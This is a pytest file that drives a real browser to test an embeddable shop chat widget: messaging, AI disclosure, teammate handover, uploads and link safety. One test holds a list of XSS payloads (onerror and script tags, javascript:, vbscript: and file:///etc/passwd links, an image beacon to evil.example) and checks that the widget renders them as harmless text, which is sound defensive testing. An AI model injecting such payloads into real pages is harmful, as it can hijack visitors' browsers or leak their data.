"""The widget in a real browser, on another website's page that styles and forbids what it can."""

from urllib.parse import quote

import pytest

from tests.local.browser import PROGRAM, Tab
from tests.local.shop_page import SENT, lines, picture
from tests.local.web_chat import answered, written_by_teammate

pytestmark = pytest.mark.skipif(not PROGRAM, reason="no Chromium here: apt-get install chromium")


def test_a_visitor_writes_and_reads_the_answer(visit, query):
    tab = visit()
    tab.say("Do you ship to Malta?")
    tab.until(SENT)
    tab.until("chat.querySelector('.dots')")
    picture(tab, "typing")

    answered(query, "Yes, **within three days**.\n\n- [To Gozo too?](reply:)\n- [Thanks](reply:)")

    tab.until("chat.querySelector('.options')")
    assert lines(tab) == [
        *("Hi, I am Nora.", "Do you ship to Malta?", "Yes, within three days."),
    ]
    picture(tab, "answer")


def test_before_the_first_message_the_visitor_reads_that_it_is_an_ai(visit, query):
    tab = visit()

    notice = tab.run("return chat.querySelector('.notice').textContent")
    privacy = tab.run("return chat.querySelector('.notice a').href")

    assert "AI assistant" in notice and privacy == "https://shop.example/privacy"
    assert query("select count(*) from web_sessions") == [(0,)]
    assert tab.run("return localStorage.length") == 0


def test_an_option_is_sent_by_a_touch_and_then_gone(visit, query):
    tab = visit()
    tab.say("Hello")
    tab.until(SENT)
    answered(query, "What about?\n- [Shipping](reply:)\n- [Returns](reply:)")
    tab.until("chat.querySelector('.options')")

    tab.run("chat.querySelectorAll('.options button')[1].click()")

    tab.until("chat.querySelectorAll('.mine').length === 2")
    assert lines(tab)[-1] == "Returns"
    assert not tab.run("return chat.querySelectorAll('.options').length")


HOSTILE = [
    "<img src=x onerror=alert(1)><script>alert(1)</script>",
    "[run](javascript:alert(1)) [data](data:text/html,x) [file](file:///etc/passwd)",
    "![spy](https://evil.example/?q=secret) <iframe src=//evil.example>",
    '[a](https://ok.example/"onmouseover="alert(1)) [b](vbscript:x) [c](//evil.example)',
]


def test_whatever_is_written_becomes_words_and_never_a_part_of_the_page(visit, query):
    tab = visit()
    tab.run("window.alert = () => { window.wasRun = true }")
    text = "\n\n".join(HOSTILE)
    tab.say(text)
    tab.until(SENT)
    answered(query, text)
    written_by_teammate(query, text)
    tab.until("chat.querySelector('.log').innerText.split('onerror=alert(1)').length === 4")

    made = "img, script, iframe, [onmouseover], [onerror], [style]"
    hrefs = tab.run("return [...chat.querySelectorAll('.bubble a')].map((each) => each.href)")
    assert tab.run(f"return chat.querySelector('.log').querySelectorAll('{made}').length") == 0
    assert hrefs and all(href.startswith("https://") for href in hrefs)
    assert not tab.run("return window.wasRun")


def test_links_tell_the_other_site_nothing_and_cannot_reach_back(visit, query):
    tab = visit()
    tab.say("Hello")
    tab.until(SENT)
    answered(query, "See [the terms](https://shop.example/terms) or https://shop.example/faq.")
    tab.until("chat.querySelectorAll('.bubble a').length === 2")

    links = tab.run(
        "return [...chat.querySelectorAll('.bubble a')].map((a) => [a.href, a.rel, a.target])"
    )

    safe = ["noopener nofollow noreferrer", "_blank"]
    assert links == [["https://shop.example/terms", *safe], ["https://shop.example/faq", *safe]]


def test_it_says_when_a_teammate_takes_over_and_gives_back(visit, query):
    tab = visit()
    tab.say("A person please")
    tab.until(SENT)
    query("update conversations set mode = 'human'")
    written_by_teammate(query, "Eva here, hello!")
    tab.until("chat.querySelector('.teammate') && chat.querySelector('.event')")

    assert "A person answers" in tab.text() and "from here on" in tab.text()
    picture(tab, "teammate")
    query("update conversations set mode = 'bot'")
    tab.until("chat.querySelector('.panel').innerText.includes('answers again')")


def test_a_closed_chat_counts_what_was_not_read(visit, query):
    tab = visit()
    tab.say("Hello")
    tab.until(SENT)
    tab.press("Escape")
    answered(query, "Hi!")

    tab.until("chat.querySelector('.badge').textContent === '1'")

    assert "1 new" in tab.run("return chat.querySelector('.launcher').ariaLabel")
    picture(tab, "launcher")


def test_a_file_is_sent_and_shown_by_its_name(visit, query, tmp_path):
    path = tmp_path / "receipt.txt"
    path.write_text("Total: 12 EUR")
    tab = visit()
    document = tab.call("DOM.getDocument", depth=-1, pierce=True)
    picker = tab.call(
        "DOM.querySelector", nodeId=shadow_of(document["root"]), selector="input[type=file]"
    )

    tab.call("DOM.setFileInputFiles", files=[str(path)], nodeId=picker["nodeId"])

    tab.until(SENT)
    assert lines(tab)[-1] == "receipt.txt"
    assert query("select media ->> 'media_type' from inbound_messages") == [("text/plain",)]


def shadow_of(node: dict) -> int:
    """The node id of the first shadow root of ours."""
    if "data-chatmill" in node.get("attributes", []):
        return node["shadowRoots"][0]["nodeId"]
    return next(filter(None, map(shadow_of, node.get("children", []))), 0)


def test_the_installations_own_page_is_the_widget(browser, server):
    tab = Tab(browser, server.replace("shop.example", "127.0.0.1").removesuffix("shop"))
    tab.until("chat && chat.querySelector('.notice').textContent")
    tab.say("Hello")
    tab.until(SENT)
    picture(tab, "own_page")

    assert not tab.run("return chat.querySelector('.launcher')")
    tab.close()


def test_a_copy_of_the_script_on_a_static_host_is_told_where_the_server_is(visit, shop, query):
    server = quote(f'data-server="http://{shop.address}/"')

    tab = visit(f"src=/copy.js&more={server}")
    tab.say("Hello")
    tab.until(SENT)

    assert query("select body from inbound_messages") == [("Hello",)]


def test_on_a_website_that_is_not_allowed_it_says_so(browser, server, query):
    query("update channels set settings = '{}' where kind = 'web'")
    tab = Tab(browser, server)

    tab.until("chat && !chat.querySelector('.banner').hidden")

    assert "not available" in tab.run("return chat.querySelector('.banner').textContent")
    tab.close()
